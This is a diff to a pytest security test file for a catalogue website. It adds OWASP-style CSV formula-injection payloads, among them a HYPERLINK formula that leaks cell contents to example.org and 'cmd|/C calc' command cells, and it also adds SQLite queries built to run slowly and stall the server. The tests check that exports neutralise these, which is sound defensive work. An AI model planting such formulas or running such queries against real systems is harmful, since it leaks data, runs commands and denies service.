@@ -9,8 +9,10 @@ the CSV export and the .db download hold nothing but the catalogue.
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import http.client
+import io
 import json
 import shutil
 import sqlite3
@@ -19,6 +21,7 @@ import sys
 import threading
 import time
 from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
 from dataclasses import dataclass
 from html.parser import HTMLParser
 from pathlib import Path
@@ -28,6 +31,7 @@ from urllib.parse import urlencode, urljoin, urlsplit
 import pytest
 
 from paradecat.check.validate import validate_catalog
+from paradecat.db import formulas
 from paradecat.db.build import table_names
 from paradecat.model import FOLDER_KINDS
 from paradecat.site.security import MAX_RESULT_BYTES, safe_location
@@ -44,6 +48,12 @@ PAYLOAD = (
     f"\"><svg onload={MARK}()>' onmouseover='{MARK}() javascript:{MARK}()"
 )
 URL_PAYLOAD = f'https://example.org/"><script>{MARK}()</script>'
+# cells a spreadsheet would run (OWASP's CSV injection examples)
+FORMULAS = (
+    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
 MODELINE = "# yaml-language-server: $schema=../../schema/{kind}.schema.json\n"
 
 
@@ -79,10 +89,13 @@ claims:
   - {{field: manufacturer, value: {q(PAYLOAD + "!")}, source: hostile-source, quote: {P}, rank: deprecated, note: {P}}}
 notes: {P}
 """,
-    "systems/plain-system.yaml": """id: plain-system
+    "systems/plain-system.yaml": f"""id: plain-system
 name: Plain system
+names: [{{name: {q(FORMULAS[2])}, lang: en}}]
 category: armoured_vehicles
 class: tank
+manufacturer: {q(FORMULAS[0])}
+description: {q(FORMULAS[1])}
 sources: [hostile-source]
 """,
     "units/hostile-unit.yaml": f"""id: hostile-unit
@@ -514,6 +527,110 @@ def test_queries_that_build_huge_values_fail_fast(site: Site, sql: str, error: s
         assert response.status == 400
         assert error in json.loads(response.body)["error"]
     assert MAX_RESULT_BYTES < 10**8
+
+
+# a 1 MB text of 'a' (and of 'b'), built in one call each
+_A = "replace(hex(zeroblob(499999)), '0', 'a')"
+_B = "replace(hex(zeroblob(499999)), '0', 'b')"
+
+
+@pytest.mark.parametrize(
+    "sql, expected, error",
+    [
+        # each of these used to run for seconds inside one SQLite step, past the 1 s limit
+        ("select printf('%.*c', 2147483647, 'x') is null", 1, None),  # 12.8 s
+        ("select length(printf('%2147483647d', 1)) is null", 1, None),
+        (f"select instr({_A} || 'b', substr({_A}, 1, 500000) || 'b')", 499999, None),  # 5.6 s
+        (f"select length(replace({_A} || 'b', substr({_A}, 1, 500000) || 'b', 'x'))", 499999, None),
+        (f"select length(trim({_B}, substr({_A}, 1, 100000) || 'b'))", 0, None),  # 6 s at 50,000
+        (f"select length(rtrim({_B}, substr({_A}, 1, 100000) || 'b'))", 0, None),
+        (f"select {_A} like '%' || substr({_A}, 1, 24000) || 'b%'", None, "pattern too complex"),
+        (f"select {_A} glob '*' || substr({_A}, 1, 24000) || 'b*'", None, "pattern too complex"),
+        (f"select length(replace({_A}, 'a', 'aa'))", None, "string or blob too big"),
+    ],
+    ids=[
+        "printf-precision",
+        "printf-width",
+        "instr",
+        "replace",
+        "trim",
+        "rtrim",
+        "like",
+        "glob",
+        "replace-growth",
+    ],
+)
+def test_no_single_function_call_outlasts_the_limit(
+    site: Site, sql: str, expected: int | None, error: str | None
+) -> None:
+    """One function call is one SQLite step, and the time limit is checked only between steps."""
+    response = query(site, sql)
+    assert response.seconds < 3.0, response.seconds
+    if error is None:
+        assert response.status == 200, response.body[:300]
+        assert json.loads(response.body)["rows"] == [[expected]]
+    else:
+        assert response.status == 400
+        assert error in json.loads(response.body)["error"]
+
+
+def test_three_slow_calls_at_once_leave_the_site_answering(site: Site) -> None:
+    """Three such requests used to occupy all three SQL threads for 31.6 s."""
+    sql = f"select instr({_A} || 'b', substr({_A}, 1, 500000) || 'b')"
+    with ThreadPoolExecutor(4) as pool:
+        slow = [pool.submit(query, site, sql) for _ in range(3)]
+        time.sleep(0.05)
+        home = get(site, "/paradecat/parades.json")
+        assert home.status == 200 and home.seconds < 3.0, home.seconds
+        assert all(f.result().seconds < 5.0 for f in slow)
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/paradecat/systems.csv",
+        "/paradecat/systems.csv?_stream=on&_dl=1",
+        "/paradecat/system_names.csv",
+        "/paradecat.csv?"
+        + urlencode(
+            {
+                "sql": "select manufacturer, description, -3.75 as longitude, '-2+3' as sum from systems"
+            }
+        ),
+    ],
+)
+def test_no_csv_cell_runs_as_a_formula(site: Site, path: str) -> None:
+    response = get(site, path)
+    assert response.status == 200
+    cells = [cell for row in csv.reader(io.StringIO(response.body.decode())) for cell in row]
+    for cell in cells:
+        assert not cell.startswith(formulas.FORMULA_STARTS) or formulas._NUMBER.match(cell), cell
+    shown = [f for f in FORMULAS if "'" + f in cells]
+    assert shown, cells[:20]  # the payload is there, as text
+    if "sql=" in path:
+        assert "-3.75" in cells and "'-2+3" in cells
+
+
+def test_an_export_keeps_formulas_as_text(site: Site, tmp_path: Path) -> None:
+    out = tmp_path / "release"
+    paradecat = str(Path(sys.executable).parent / "paradecat")
+    done = subprocess.run(
+        [paradecat, "export", "--root", str(site.root), "--out", str(out)],
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    for name, column, formula in (
+        ("systems", "manufacturer", FORMULAS[0]),
+        ("systems", "description", FORMULAS[1]),
+        ("system_names", "name", FORMULAS[2]),
+    ):
+        with (out / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
+            values = [row[column] for row in csv.DictReader(handle)]
+        assert "'" + formula in values and formula not in values
+        # the JSON keeps the value as written: no spreadsheet reads it
+        assert formula in [r[column] for r in json.loads((out / f"{name}.json").read_text())]
 
 
 # --- nothing outside the catalogue ------------------------------------------------------------------
